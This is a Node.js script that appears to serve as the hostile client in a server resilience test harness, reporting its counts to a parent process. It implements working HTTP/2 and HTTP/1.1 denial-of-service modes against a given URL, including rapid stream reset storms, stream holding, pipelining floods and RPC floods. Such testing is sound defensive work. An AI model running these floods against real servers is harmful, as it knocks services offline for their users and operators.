/**
 * A hostile client in a process of its own: `node attacker.mjs URL KIND SECONDS [OPTIONS as JSON]`. Tells on its
 * channel to the parent what it did, once its time is over.
 */
import net from 'node:net';
import { FrameReader, headerBlock, opening, request, reset, settingsAck } from './http2-wire.mjs';

const [address = '', kind = '', seconds = '0', optionText = '{}'] = process.argv.slice(2);
const { hostname, port } = new URL(address);
/** @type {{ connections?: number, streams?: number, path?: string, headers?: Record<string, string>, body?: string, text?: string, depth?: number, perSecond?: number, window?: number, from?: string }} */
const options = JSON.parse(optionText);
const { connections = 8, streams = 256, path = '/', headers = {}, depth = 100 } = options;
const body = options.body === undefined ? null : Buffer.from(options.body, 'base64');
const endsAt = performance.now() + Number(seconds) * 1000;

const did = {
  connections: 0,
  requests: 0,
  ended: 0,
  dropped: 0,
  resets: 0,
  goAways: 0,
  closed: 0,
  statuses: {},
};
/** @type {Set<net.Socket>} */
const sockets = new Set();
const isOver = () => performance.now() >= endsAt;

function connect() {
  const socket = net.connect({
    host: hostname,
    port: Number(port),
    noDelay: true,
    ...(options.from ? { localAddress: options.from } : {}),
  });
  did.connections += 1;
  sockets.add(socket);
  socket.on('error', () => {});
  socket.on('close', () => {
    did.closed += 1;
    sockets.delete(socket);
  });
  return socket;
}

/**
 * @param {net.Socket} socket
 * @param {(stream: number) => void} ended
 * @param {(count: number) => void} limited
 * @param {(stream: number) => void} data
 */
function http2(socket, ended, limited = () => {}, data = (/** @type {number} */ _stream) => {}) {
  const reader = new FrameReader({
    settings(maxStreams) {
      socket.write(settingsAck);
      if (maxStreams !== undefined) limited(maxStreams);
    },
    ended(stream) {
      did.ended += 1;
      ended(stream);
    },
    reset(stream) {
      did.resets += 1;
      ended(stream);
    },
    goAway: () => {
      did.goAways += 1;
    },
    data,
  });
  socket.on('data', (chunk) => reader.push(/** @type {Buffer} */ (chunk)));
  socket.write(opening(options.window));
}

const block = headerBlock(path, { 'content-type': 'application/grpc', te: 'trailers', ...headers });

const kinds = {
  /** Opens streams and keeps them; a connection that is closed is opened again. */
  hold() {
    const start = () => {
      if (isOver()) return;
      const socket = connect();
      http2(socket, () => {});
      for (let at = 0; at < streams; at += 1) socket.write(request(2 * at + 1, block, body));
      did.requests += streams;
      socket.once('close', () => setTimeout(start, 10));
    };
    for (let count = 0; count < connections; count += 1) start();
  },
  /** Opens and resets streams, then does so on another connection. */
  reset() {
    const parts = [];
    for (let at = 0; at < streams; at += 1) parts.push(request(2 * at + 1, block, body), reset(2 * at + 1));
    const storm = Buffer.concat([opening(), ...parts]);
    const start = () => {
      if (isOver()) return;
      const socket = connect();
      socket.resume();
      let wasSent = false;
      socket.write(storm, () => {
        wasSent = true;
        did.requests += streams;
        socket.destroySoon();
      });
      socket.once('close', () => {
        if (!wasSent) did.requests += streams;
        setImmediate(start);
      });
    };
    for (let count = 0; count < connections; count += 1) start();
  },
  /** Sends HTTP/1.1 requests one behind the other without waiting. */
  pipeline() {
    const text = Buffer.from((options.text ?? '').repeat(depth), 'latin1');
    const start = () => {
      if (isOver()) return;
      const socket = connect();
      socket.on('data', (chunk) => countStatuses(/** @type {Buffer} */ (chunk)));
      const flood = () => {
        while (!isOver() && !socket.destroyed) {
          did.requests += depth;
          if (!socket.write(text)) return;
        }
      };
      socket.on('drain', flood);
      socket.once('connect', flood);
      socket.once('close', () => setTimeout(start, 5));
    };
    for (let count = 0; count < connections; count += 1) start();
  },
  /** Sends HTTP/1.1 requests at a rate. */
  rate() {
    const text = options.text ?? '';
    /** @type {net.Socket[]} */
    const open = [];
    const started = performance.now();
    let sent = 0;
    const timer = setInterval(() => {
      if (isOver()) return clearInterval(timer);
      const due = ((performance.now() - started) / 1000) * (options.perSecond ?? 100);
      for (; sent < due; sent += 1) {
        const at = sent % connections;
        let socket = open[at];
        if (socket === undefined || socket.destroyed) {
          socket = connect();
          socket.on('data', (chunk) => countStatuses(/** @type {Buffer} */ (chunk)));
          open[at] = socket;
        }
        socket.write(text);
        did.requests += 1;
      }
    }, 5);
  },
  /** Sends RPCs at a rate. */
  calls() {
    /** @type {{ socket: net.Socket, next: number }[]} */
    const open = [];
    const started = performance.now();
    let sent = 0;
    const timer = setInterval(() => {
      if (isOver()) return clearInterval(timer);
      const due = ((performance.now() - started) / 1000) * (options.perSecond ?? 100);
      for (; sent < due; sent += 1) {
        const at = sent % connections;
        let one = open[at];
        if (one === undefined || one.socket.destroyed) {
          one = { socket: connect(), next: 1 };
          http2(one.socket, () => {});
          open[at] = one;
        }
        one.socket.write(request(one.next, block, body));
        one.next += 2;
        did.requests += 1;
      }
    }, 5);
  },
  /** Keeps a number of RPCs running on each connection. */
  flood() {
    const start = () => {
      if (isOver()) return;
      const socket = connect();
      let next = 1;
      let running = 0;
      let most = streams;
      const more = () => {
        for (; running < most && !isOver() && !socket.destroyed; running += 1) {
          socket.write(request(next, block, body));
          next += 2;
          did.requests += 1;
        }
      };
      const ended = () => {
        running -= 1;
        more();
      };
      http2(socket, ended, (limit) => {
        most = Math.min(streams, limit);
        more();
      });
      more();
      socket.once('close', () => setTimeout(start, 5));
    };
    for (let count = 0; count < connections; count += 1) start();
  },
  /** Keeps a number of streams running on each connection: resets each at its first data, and opens another. */
  reopen() {
    const start = () => {
      if (isOver()) return;
      const socket = connect();
      let next = 1;
      const more = () => {
        if (isOver() || socket.destroyed) return;
        socket.write(request(next, block, body));
        next += 2;
        did.requests += 1;
      };
      const dropped = new Set();
      const drop = (/** @type {number} */ stream) => {
        if (dropped.has(stream)) return;
        dropped.add(stream);
        did.dropped += 1;
        socket.write(reset(stream));
        more();
      };
      const ended = (/** @type {number} */ stream) => {
        if (!dropped.has(stream)) more();
      };
      http2(socket, ended, () => {}, drop);
      for (let at = 0; at < streams; at += 1) more();
      socket.once('close', () => setTimeout(start, 5));
    };
    for (let count = 0; count < connections; count += 1) start();
  },
};

/** @param {Buffer} chunk */
function countStatuses(chunk) {
  for (const [, status = ''] of chunk.toString('latin1').matchAll(/HTTP\/1\.1 (\d{3})/g)) {
    const { statuses } = /** @type {{ statuses: Record<string, number> }} */ (did);
    statuses[status] = (statuses[status] ?? 0) + 1;
  }
}

kinds[/** @type {keyof typeof kinds} */ (kind)]();
setTimeout(() => {
  // Goes away as an attacker does: without a word, and with everything it has sent still on its way.
  const leave = () => {
    for (const socket of sockets) socket.destroy();
    process.exit();
  };
  if (process.send === undefined) leave();
  else process.send(did, leave);
}, Number(seconds) * 1000);
